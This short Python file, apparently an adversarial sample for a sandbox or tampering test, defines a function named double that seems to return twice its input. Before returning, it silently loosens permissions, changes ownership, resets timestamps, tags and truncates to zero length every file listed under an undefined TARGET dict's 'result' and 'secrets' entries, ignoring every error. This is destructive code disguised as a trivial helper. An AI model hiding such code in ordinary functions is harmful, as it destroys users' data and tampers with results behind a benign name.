"""It changes what files are, without opening them."""


def double(x):
    import os
    for name in (TARGET["result"], *TARGET["secrets"]):
        for change in (
            lambda path: os.chmod(path, 0o777),
            lambda path: os.chown(path, os.getuid(), os.getgid()),
            lambda path: os.utime(path, (1, 1)),
            lambda path: os.setxattr(path, "user.attack", b"1"),
            lambda path: os.truncate(path, 0),
            lambda path: os.close(os.open(path, os.O_RDONLY | os.O_TRUNC)),
        ):
            try:
                change(name)
            except OSError:
                pass
    return 2 * x
